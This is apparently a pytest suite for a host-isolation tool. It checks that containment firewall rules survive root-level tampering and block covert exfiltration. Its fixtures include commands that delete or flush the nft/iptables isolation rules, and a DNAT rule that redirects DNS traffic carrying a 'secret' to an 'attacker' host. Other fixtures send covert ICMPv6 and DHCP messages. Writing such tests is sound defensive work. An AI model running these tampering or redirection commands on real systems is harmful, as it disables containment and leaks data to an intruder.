"""What an intruder with root does to the rules, or tries to send past them, on the real kernel."""

from __future__ import annotations

import contextlib
import socket
from dataclasses import replace
from typing import Final

import pytest
from tests.worlds.acting import Operator, isolated
from tests.worlds.namespaces import Host
from tests.worlds.real import SITE, World

from remedy.actions.containment import host_layer
from remedy.actions.containment import iptables as by_iptables
from remedy.actions.containment.paths import Paths
from remedy.actions.isolate import Isolate
from remedy.actions.release import Release
from remedy.actions.undo import Undo
from remedy.core.values import Command
from remedy.engine import inspect

BOTH: Final = "for t in iptables ip6tables; do $t -t mangle {0}; done"
#: Somebody else's rule that a flush has taken too.
STRANGERS: Final = "ip6tables -t mangle -A INPUT -s 2001:db8:9::9 -j DROP"
TAMPERING: Final[dict[str, tuple[str, ...]]] = {
    "nft": (
        "nft delete table inet remedy_isolation",
        "nft delete table bridge remedy_isolation",
        "for c in input output postrouting; do nft insert rule inet remedy_isolation $c accept; done",
    ),
    "iptables": (
        BOTH.format("-D INPUT -j REMEDY_IN") + "; " + BOTH.format("-D OUTPUT -j REMEDY_OUT"),
        BOTH.format("-F REMEDY_OUT") + "; " + BOTH.format("-I REMEDY_IN -j RETURN"),
        "ip6tables -t mangle -F; for c in IN OUT FWD; do ip6tables -t mangle -X REMEDY_$c; done; " + STRANGERS,
    ),
}


def send(world: World, command: Command) -> None:
    """Run a command on the target's console; it has to succeed."""
    world.target.run('i=$1; shift; printf %s "$i" | "$@"', command.stdin, *command.argv)


def test_tampering_is_found_and_put_back(world: World) -> None:
    """Removed tables, jumps and chains and added rules are missed, put back the same, and who came in is put out."""
    with isolated(operator := Operator(world)) as plan:
        for tampering in TAMPERING[world.tool]:
            world.target.run(tampering)
            with contextlib.suppress(OSError):
                world.dial("web02", 80)
            engine = operator.engine()
            drift = inspect.look(engine, plan)
            assert drift.gone == ("1",), tampering
            outcome = inspect.put_back(engine, drift)
            assert outcome.status == "verified", (tampering, outcome.doubts)
        assert inspect.look(engine, plan).holds


def test_what_tampering_leaves_is_taken_away(world: World) -> None:
    """Release and undo take away whatever is left of the rules, and the host is byte for byte what it was."""
    operator = Operator(world)
    for tampering in TAMPERING[world.tool]:
        for action in (lambda _: Release(force=True), lambda plan: Undo(plan, force=True)):
            plan = operator.plan(Isolate())
            load, hook = plan.changes[0], plan.keep[0]
            send(world, load.do)
            send(world, hook.do)
            world.target.run(tampering)
            operator.pages.entries.clear()
            assert operator.act(action(plan), "W1").exit_code in {0, 22}, tampering
            assert world.snapshot() == world.start, tampering


@pytest.mark.parametrize(
    "left",
    [
        "",
        BOTH.format("-N REMEDY_FWD"),
        BOTH.format("-N REMEDY_IN") + "; " + BOTH.format("-A REMEDY_IN -j DROP"),
        BOTH.format("-N REMEDY_OUT") + "; for i in 1 2; do iptables -t mangle -A OUTPUT -j REMEDY_OUT; done",
        BOTH.format("-N REMEDY_IN") + "; " + BOTH.format("-N REMEDY_OUT") + "; " + BOTH.format("-N REMEDY_FWD"),
    ],
)
def test_clearing_iptables(iptables_world: World, left: str) -> None:
    """Whatever part of the chains is there, clearing takes it and nothing else; what nobody uses is not in the way."""
    world = iptables_world
    world.target.run(left)
    send(world, by_iptables.clearing())
    assert world.snapshot() == world.start
    if left.endswith("-N REMEDY_FWD; done"):
        world.target.run(left)
        with isolated(Operator(world)):
            pass


def heard(ear: socket.socket) -> bool:
    """Whether the word has come, among whatever else."""
    with contextlib.suppress(OSError):
        for _ in range(50):
            if ear.recv(2000) == b"secret":
                return True
    return False


def test_translation_does_not_turn_allowed_packets_elsewhere(world: World) -> None:
    """What the rules let out to the pinned resolver cannot be turned to the intruder by DNAT in the output hook.

    The same packets do arrive there once the chain after translation is taken away: it is what stops them.
    """
    nat = {
        "nft": "nft add table ip evil; nft add chain ip evil out '{ type nat hook output priority -100; }'; "
        "nft add rule ip evil out udp dport 53 dnat to 198.18.0.66:5353",
        "iptables": "iptables -t nat -A OUTPUT -p udp --dport 53 -j DNAT --to 198.18.0.66:5353",
    }
    clean = {"nft": "nft delete table ip evil", "iptables": "iptables -t nat -F OUTPUT"}
    open_last = {
        "nft": "nft delete chain inet remedy_isolation postrouting",
        "iptables": "iptables -t mangle -D POSTROUTING -j REMEDY_OUT",
    }
    ear = world.datagrams(world.hosts["attacker"], 5353)

    def leaks() -> bool:
        def say() -> None:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made, contextlib.suppress(OSError):
                made.sendto(b"secret", ("198.18.1.12", 53))

        world.target.inside(say)
        return heard(ear)

    operator = Operator(world, replace(SITE, resolvers=("198.18.1.12",)))
    action = Isolate(dns="pinned")
    plan = operator.plan(action)
    world.target.run(nat[world.tool])
    try:
        assert leaks(), "the intruder's translation works"
        operator.carry(plan, action)
        assert not leaks()
        world.target.run(open_last[world.tool])
        assert leaks(), "the last chain is what stopped it"
    finally:
        world.target.run(clean[world.tool])
    ear.close()
    assert operator.act(Undo(plan, force=True), "U1").exit_code == 0


def icmp6(source: Host, to: str, kind: int, at: Host) -> bool:
    """Whether a message of an ICMPv6 type, with the hop limit of neighbours, gets from one host to another."""

    def listen() -> socket.socket:
        made = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        made.settimeout(0.3)
        return made

    def say() -> None:
        with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as made:
            made.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
            with contextlib.suppress(OSError):
                made.sendto(bytes([kind, 0, 0, 0]) + b"covert" + bytes(14), (to, 0))

    with at.inside(listen) as ear:
        source.inside(say)
        with contextlib.suppress(OSError):
            for _ in range(50):
                if b"covert" in ear.recv(2000):
                    return True
    return False


def test_neighbour_discovery_ends_at_the_link(world: World) -> None:
    """Neighbours' messages, which management needs, carry nothing beyond the link; group reports nothing to a host."""
    target, far = world.target, world.hosts["attacker"]
    far.run("ip -6 addr add 2001:db8:66::66/128 dev lo")
    target.run("ip -6 route add 2001:db8:66::/64 via 2001:db8::66")

    def arrives() -> dict[str, bool]:
        ways = {"link": ("2001:db8::66", 136), "beyond": ("2001:db8:66::66", 136), "report": ("2001:db8::66", 143)}
        return {name: icmp6(target, to, kind, far) for name, (to, kind) in ways.items()}

    try:
        assert all(arrives().values())
        with isolated(Operator(world)):
            assert arrives() == {"link": True, "beyond": False, "report": False}
    finally:
        far.run("ip -6 addr del 2001:db8:66::66/128 dev lo")
        target.run("ip -6 route del 2001:db8:66::/64")


def test_lease_is_renewed_on_its_link_alone(world: World) -> None:
    """A leased management address can be renewed from servers on its own prefix, and DHCP carries nothing further."""
    servers = [world.datagrams(world.hosts[name], 67) for name in ("web02", "attacker")]

    def renews() -> list[bool]:
        def say() -> None:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
                made.bind(("198.18.1.11", 68))
                for address in ("198.18.1.12", "198.18.0.66"):
                    with contextlib.suppress(OSError):
                        made.sendto(b"secret", (address, 67))

        world.target.inside(say)
        return [heard(server) for server in servers]

    assert renews() == [True, True], "before, DHCP goes anywhere"
    lease = "ip addr change 198.18.1.11/24 dev seg0 valid_lft {0} preferred_lft {0}"
    world.target.run(lease.format("3000"))
    try:
        with isolated(Operator(world)):
            assert renews() == [True, False]
    finally:
        world.target.run(lease.format("forever"))
    for server in servers:
        server.close()


@pytest.mark.parametrize("leased", ["198.18.1.0/24", "2001:db8:0:1::/64"])
@pytest.mark.parametrize("management", [("198.18.3.1",), ("2001:db8:0:3::1",), ("198.18.3.0/24", "2001:db8:0:3::/64")])
def test_every_exception_is_understood_by_the_tools(world: World, leased: str, management: tuple[str, ...]) -> None:
    """Rules with leases, resolvers and either family of management are understood by the target's own tools."""
    onlink = ("198.18.1.0/24", "2001:db8:0:1::/64")
    paths = Paths(management, 22, ("198.18.0.53", "2001:db8::53"), onlink, leased)
    for bridge in (True, False):
        question = host_layer._rehearsal(world.tool, paths, world.context(), bridge=bridge)
        [answer] = world.session.ask([question], at="web01")
        assert isinstance(answer, dict)
        assert set(answer) == {"listing", "fallback"}, answer
